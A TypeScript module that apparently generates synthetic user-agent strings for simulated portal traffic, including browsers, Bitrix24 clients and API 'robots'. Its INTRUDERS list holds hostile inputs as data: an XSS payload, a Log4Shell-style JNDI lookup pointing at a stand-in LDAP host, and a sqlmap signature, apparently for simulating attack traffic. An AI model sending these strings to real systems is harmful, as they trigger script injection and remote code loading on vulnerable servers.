import type { SeededRandom } from "../portal/random.ts";
import { at, pick, weighted } from "./draw.ts";

type Family = (version: { month: number; variant: number }) => string;

const WINDOWS = [
  "Windows NT 10.0; Win64; x64",
  "Windows NT 10.0; WOW64",
  "Windows NT 6.1; Win64; x64",
];
const MACS = ["Macintosh; Intel Mac OS X 10_15_7", "Macintosh; Intel Mac OS X 14_6_1"];
const PHONES = [
  "SM-A546E",
  "SM-S918B",
  "2201117TY",
  "Pixel 8",
  "RMX3630",
  "M2101K6G",
  "V2250",
  "CPH2581",
];
const KIT = "AppleWebKit/537.36 (KHTML, like Gecko)";

const chrome = (system: string, month: number): string =>
  `Mozilla/5.0 (${system}) ${KIT} Chrome/${130 + month}.0.0.0 Safari/537.36`;

const FAMILIES = weighted<Family>([
  [34, ({ month, variant }) => chrome(at(WINDOWS, variant), month)],
  [9, ({ month, variant }) => `${chrome(at(WINDOWS, variant), month)} Edg/${130 + month}.0.0.0`],
  [8, ({ month, variant }) => chrome(at(MACS, variant), month)],
  [
    12,
    ({ month, variant }) =>
      chrome(at(WINDOWS, variant), month).replace(
        "Safari",
        `YaBrowser/25.${1 + (month % 12)}.0.0 Safari`,
      ),
  ],
  [
    6,
    ({ month, variant }) =>
      `Mozilla/5.0 (${at(WINDOWS, variant)}; rv:${130 + month}.0) Gecko/20100101 Firefox/${130 + month}.0`,
  ],
  [
    5,
    ({ month, variant }) =>
      `Mozilla/5.0 (${at(MACS, variant)}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.${Math.floor(month / 3)} Safari/605.1.15`,
  ],
  [
    9,
    ({ month, variant }) =>
      `Mozilla/5.0 (Linux; Android ${12 + (variant % 4)}; ${at(PHONES, variant)}) ${KIT} Chrome/${130 + month}.0.0.0 Mobile Safari/537.36`,
  ],
  [
    8,
    ({ month, variant }) =>
      `Mozilla/5.0 (iPhone; CPU iPhone OS 18_${Math.floor(month / 2)}_${variant % 2} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Bitrix24/${60 + month}`,
  ],
  [
    7,
    ({ month, variant }) =>
      `Bitrix24 Mobile/${60 + month}.${variant % 3} (Android ${12 + (variant % 4)}; ${at(PHONES, variant)})`,
  ],
  [
    6,
    ({ month, variant }) =>
      `${chrome(at(WINDOWS, variant), month)} BitrixDesktop/17.${month}.${variant % 5}`,
  ],
]);

/** How one person's browser or device calls itself; its version grows with the months. */
export type Device = (month: number) => string;

export function drawDevice(random: SeededRandom): Device {
  const family = FAMILIES(random);
  const variant = random.below(24);
  // Not everybody takes every version.
  const step = 1 + random.below(3);
  return (month) => family({ month: month - (month % step), variant });
}

const ROBOTS = [
  "curl/8.9.1",
  "python-requests/2.32.3",
  "Bitrix24 CRest PHP 1.36",
  "b24phpsdk/1.7.0 PHP/8.3.12",
  "GuzzleHttp/7",
  "axios/1.7.7",
  "Go-http-client/2.0",
  "1C+Enterprise/8.3",
  "Apache-HttpClient/4.5.14 (Java/17.0.12)",
  "okhttp/4.12.0",
];
const INTRUDERS = [
  "Mozilla/5.0",
  "Mozilla/5.0 (compatible; ExampleScanner/2.1; +https://scanner.example.org/)",
  "sqlmap/1.8.9#stable (https://sqlmap.example.org)",
  "<img src=x onerror=alert(1)>",
  "python-requests/2.28.1",
  "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
  "${jndi:ldap://probe.example.org/a}",
];

export const robot = (random: SeededRandom): string => pick(random, ROBOTS);
export const intruder = (random: SeededRandom): string => pick(random, INTRUDERS);
